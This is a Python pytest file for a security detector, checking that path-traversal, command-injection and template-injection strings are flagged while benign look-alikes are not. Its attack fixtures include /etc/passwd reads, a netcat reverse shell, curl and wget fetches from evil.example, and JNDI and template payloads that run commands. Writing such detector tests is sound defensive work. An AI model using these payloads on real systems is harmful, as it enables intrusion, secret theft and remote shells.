"""Paths, shells and template engines: what is aimed at them is told from what merely mentions them."""

from __future__ import annotations

import pytest

from paiid_perf.security.detection import KINDS, detect
from paiid_perf.security.inspection import _SEVERITY

ATTACKS = {
    "traversal": (
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/etc/passwd", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "../.env",
        "static/../../settings.py", "c:\\Windows\\System32\\drivers\\etc\\hosts", "..;/..;/WEB-INF/web.xml",
    ),
    "command": (
        "; cat /etc/passwd", "| whoami", "8.8.8.8; ls -la", "$(curl http://evil.example/x)", "`sleep 5`",
        "a && ping -c 3 127.0.0.1", "x|id", "127.0.0.1;id", "; nc -e /bin/sh 10.0.0.1 4444",
        "() { :;}; echo vulnerable", "test;cat${IFS}/etc/passwd", "|| wget evil.example/x.sh", "\ncat /etc/passwd",
    ),
    "template": (
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://evil.example/a}", "#set($x=7*7)$x",
        "{{request|attr('application')}}", "${${lower:j}ndi:ldap://x/a}",
    ),
}  # fmt: skip
ORDINARY = (
    "../docs/index.md", "see ../README", "/etc is where settings live", "https://example.com/a/b/../c",
        "C:\\Users\\bob",
    "Tom & Cat", "rock; sleep well", "name; id", "cats | dogs", "wait; then curl up", "Ping me; host the party",
    "salt & head cold", "use `env` and `ls`", "price: $(12)", "{{ user.name }}", "Hello {name}", "${HOME}/bin",
        "2 * 3 = 6",
    "{{ price }} * 2", "100% {off}", "[[Wiki link]]", "<%# comment %>", "#set up", "file: report.pdf",
)  # fmt: skip


@pytest.mark.parametrize("kind", ATTACKS)
def test_attacks_are_found(kind: str) -> None:
    assert [text for text in ATTACKS[kind] if kind not in detect(text)] == []


def test_what_mentions_them_is_left_alone() -> None:
    assert {text: detect(text) for text in ORDINARY if detect(text)} == {}


def test_each_kind_has_a_severity_and_is_no_refusal() -> None:
    assert set(ATTACKS) < KINDS <= set(_SEVERITY)
